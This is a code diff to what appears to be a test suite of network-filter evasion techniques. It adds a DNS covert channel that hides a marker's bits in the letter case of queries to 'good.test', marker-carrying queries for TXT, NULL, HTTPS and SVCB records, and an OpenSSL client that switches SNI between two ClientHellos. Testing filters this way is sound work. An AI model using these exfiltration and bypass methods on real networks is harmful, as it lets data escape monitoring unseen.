@@ -135,6 +135,21 @@ def labels_to_another_server(mark):
 
 
 @attack
+def bits_in_the_letters_of_a_name(mark):
+    """Small and capital ones, four bits a question; the world puts them together."""
+    for digit in mark.hex():
+        bits = int(digit, 16)
+        ask([bytes(c - 32 if bits & 8 >> i else c for i, c in enumerate(b"good")), b"test"])
+    return "asked"
+
+
+@attack
+def records_of_allowed_names(mark):
+    """Of kinds that carry what they like: TXT, NULL, HTTPS with its ECH keys, SVCB."""
+    return [ask([mark, b"wild", b"test"], kind) for kind in (16, 10, 65, 64, 255, 99)]
+
+
+@attack
 def labels_behind_a_question(mark):
     """Bytes that follow, and options of EDNS."""
     query = bytearray(question([b"good", b"test"]))
@@ -266,34 +281,48 @@ for name, make in {
 
 
 class OpenSSL:
-    """A client that may change its mind between two ClientHellos."""
+    """A client that may change its mind between two ClientHellos: nothing is read
+    before it has."""
 
     def __init__(self, connection):
         self.library = library = ctypes.CDLL("libssl.so.3")
-        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
+        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new", "BIO_new", "BIO_s_mem"):
             getattr(library, name).restype = ctypes.c_void_p
-        context = library.SSL_CTX_new(ctypes.c_void_p(library.TLS_client_method()))
-        self.ssl = ctypes.c_void_p(library.SSL_new(ctypes.c_void_p(context)))
+        pointer = ctypes.c_void_p
+        context = library.SSL_CTX_new(pointer(library.TLS_client_method()))
+        self.ssl = pointer(library.SSL_new(pointer(context)))
+        self.come, self.go = (pointer(library.BIO_new(pointer(library.BIO_s_mem()))) for _ in range(2))
+        library.SSL_set_bio(self.ssl, self.come, self.go)
         self.connection = connection
-        library.SSL_set_fd(self.ssl, connection.fileno())
 
-    def connect(self, first, second):
-        self.name(first)
-        self.connection.setblocking(False)
-        self.library.SSL_connect(self.ssl)  # nothing is there to be read yet
-        self.name(second)
-        self.connection.settimeout(None)
-        if self.library.SSL_connect(self.ssl) != 1:
-            raise OSError("no TLS")
+    def until_done(self, step):
+        """Do it, with what has to be sent and received for it."""
+        room = ctypes.create_string_buffer(20000)
+        while True:
+            done = step()
+            while (size := self.library.BIO_read(self.go, room, len(room))) > 0:
+                self.connection.sendall(room[:size])
+            if done > 0:
+                return done
+            got = self.connection.recv(20000)
+            if not got:
+                raise OSError("no TLS")
+            self.library.BIO_write(self.come, got, len(got))
 
-    def name(self, name):
-        self.library.SSL_ctrl(self.ssl, 55, 0, name)
+    def connect(self, *names):
+        names = list(names)
+
+        def step():
+            if names:
+                self.library.SSL_ctrl(self.ssl, 55, 0, names.pop(0))
+            return self.library.SSL_connect(self.ssl)
+        self.until_done(step)
 
     def get(self, host, path):
         request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
-        self.library.SSL_write(self.ssl, request, len(request))
+        self.until_done(lambda: self.library.SSL_write(self.ssl, request, len(request)))
         answer = ctypes.create_string_buffer(1000)
-        return answer[:max(0, self.library.SSL_read(self.ssl, answer, 1000))]
+        return answer[:self.until_done(lambda: self.library.SSL_read(self.ssl, answer, 1000))]
 
 
 @attack
